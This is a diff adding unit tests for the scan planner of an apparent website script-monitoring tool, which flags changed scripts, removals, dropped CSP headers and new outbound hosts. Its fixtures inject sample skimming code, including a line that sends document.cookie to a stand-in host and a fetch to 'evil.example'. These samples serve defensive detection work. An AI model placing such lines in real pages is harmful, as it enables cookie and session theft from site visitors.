@@ -1,0 +1,100 @@
+// Unit: the pure planner decides observations, baseline entries and alerts without touching IO.
+
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { emptyBaseline, type BaselineSnapshot, type KnownScript } from '../../src/baseline.js';
+import { planScan } from '../../src/compare.js';
+import { fingerprint } from '../../src/fingerprint.js';
+import type { ScanPlan } from '../../src/plan.js';
+import { APP, healthyShop, INLINE_A, INLINE_B, LIB, pageCapture, script } from '../fixtures/captures.js';
+
+const options = { removalThreshold: 2 };
+
+/** The baseline a store would hold after the given plan was approved. */
+function approved(plan: ScanPlan): BaselineSnapshot {
+  const scripts: KnownScript[] = plan.scripts.map((s, i) => ({
+    id: i + 1, key: s.key, kind: s.kind, url: s.url, frameUrl: s.frameUrl, retired: false, missingStreak: 0,
+    accepted: s.sha256 ? [s.sha256] : [], lastSha: s.sha256, lastBody: s.sha256 ? plan.bodies.get(s.sha256) ?? null : null,
+  }));
+  const headers = new Map<string, string[]>();
+  const hosts = new Set<string>();
+  for (const add of plan.baselineAdds) {
+    if (add.subjectType === 'header') headers.set(add.subjectKey, [add.value]);
+    if (add.subjectType === 'host') hosts.add(add.subjectKey);
+  }
+  return { established: true, scripts, headers, hosts };
+}
+
+describe('planScan', () => {
+  const first = planScan(healthyShop(), emptyBaseline(), options);
+
+  it('turns a first scan into a pending inventory without alerts', () => {
+    assert.equal(first.alerts.length, 0);
+    assert.equal(first.scripts.length, 4);
+    assert.equal(first.baselineAdds.filter((a) => a.subjectType === 'script').length, 4);
+    assert.ok(first.baselineAdds.some((a) => a.subjectType === 'header' && a.subjectKey === 'content-security-policy'));
+    assert.ok(first.baselineAdds.some((a) => a.subjectType === 'host' && a.subjectKey === 'cdn.example'));
+    assert.equal(first.bodies.get(fingerprint(APP.body!).sha256), APP.body);
+  });
+
+  it('raises nothing on an unchanged rescan, whatever the script order', () => {
+    const plan = planScan(pageCapture([INLINE_B, LIB, INLINE_A, APP]), approved(first), options);
+    assert.deepEqual(plan.alerts, []);
+    assert.ok(plan.scripts.every((s) => s.knownId !== null));
+  });
+
+  it('reports a changed external script with old and new hashes', () => {
+    const changed = script({ kind: 'external', url: APP.url, body: `${APP.body}\nfetch("https://evil.example/c")` });
+    const plan = planScan(pageCapture([changed, LIB, INLINE_A, INLINE_B]), approved(first), options);
+    assert.equal(plan.alerts.length, 1);
+    const [alert] = plan.alerts;
+    assert.equal(alert!.type, 'script.changed');
+    assert.equal(alert!.severity, 'high');
+    assert.equal(alert!.oldValue, fingerprint(APP.body!).sha256);
+    assert.equal(alert!.newValue, fingerprint(changed.body!).sha256);
+  });
+
+  it('treats a modified inline script as one change', () => {
+    const modified = script({ kind: 'inline', body: `${INLINE_B.body}\nnew Image().src = "https://x.example/?c=" + document.cookie;` });
+    const plan = planScan(pageCapture([APP, LIB, INLINE_A, modified]), approved(first), options);
+    assert.deepEqual(plan.alerts.map((a) => a.type), ['script.changed']);
+  });
+
+  it('never reports removals from a failed load', () => {
+    const failed = planScan(pageCapture([], { outcome: { ok: false, code: 'PAGE_TIMEOUT', reason: 'slow' } }), approved(first), options);
+    assert.equal(failed.scan.status, 'failed');
+    assert.deepEqual(failed.alerts, []);
+    assert.deepEqual(failed.missing, []);
+  });
+
+  it('reports a removal only once the script was missing from enough successful scans', () => {
+    const base = approved(first);
+    const once = planScan(pageCapture([APP, INLINE_A, INLINE_B]), base, options);
+    assert.deepEqual(once.alerts, []);
+    assert.equal(once.missing.length, 1);
+    const libKnown = base.scripts.find((s) => s.key === LIB.url)!;
+    libKnown.missingStreak = once.missing[0]!.missingStreak;
+    const twice = planScan(pageCapture([APP, INLINE_A, INLINE_B]), base, options);
+    assert.deepEqual(twice.alerts.map((a) => [a.type, a.subject]), [['script.removed', LIB.url]]);
+  });
+
+  it('reports a dropped CSP and a new destination host', () => {
+    const capture = healthyShop({ securityHeaders: {} });
+    capture.requests.push({ url: 'https://baways.example/gateway', type: 'XHR', method: 'POST', frameUrl: null, initiatorUrl: APP.url });
+    const plan = planScan(capture, approved(first), options);
+    const header = plan.alerts.find((a) => a.type === 'header.changed')!;
+    assert.equal(header.subject, 'content-security-policy');
+    assert.equal(header.severity, 'high');
+    const connection = plan.alerts.find((a) => a.type === 'connection.added')!;
+    assert.equal(connection.subject, 'baways.example');
+    assert.match(connection.summary, /static\/app\.js/);
+  });
+
+  it('uses the same dedupe key for the same unapproved change', () => {
+    const changed = script({ kind: 'external', url: LIB.url, body: 'window.lib=1;evil()' });
+    const a = planScan(pageCapture([APP, changed, INLINE_A, INLINE_B]), approved(first), options);
+    const b = planScan(pageCapture([APP, changed, INLINE_A, INLINE_B]), approved(first), options);
+    assert.equal(a.alerts[0]!.dedupeKey, b.alerts[0]!.dedupeKey);
+    assert.equal(a.alerts[0]!.severity, 'critical', 'versioned URL');
+  });
+});
